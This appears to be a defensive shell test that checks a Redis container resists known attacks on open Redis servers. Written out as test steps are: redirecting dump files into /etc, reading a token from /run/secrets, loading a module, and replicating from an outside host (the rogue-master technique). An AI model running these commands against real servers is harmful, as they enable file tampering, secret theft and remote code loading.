# What has been done to open Redis servers: a file of the attacker's elsewhere, a foreign master, a module, a look at a secret.
redis() { of redis /usr/bin/redis-cli "$@"; }
same OK "$(redis config set dir /etc)"
redis save | grep -qi err
same OK "$(redis config set dir /run/secrets)"
same OK "$(redis config set dbfilename token)"
redis debug reload nosave | grep -qi err
same OK "$(redis config set dir /data)"
same OK "$(redis config set dbfilename dump.rdb)"
redis module load /data/module.so | grep -qi err
same OK "$(redis replicaof 203.0.113.7 6379)"
runc exec "$container" /bin/sh -c id && exit 1 || true
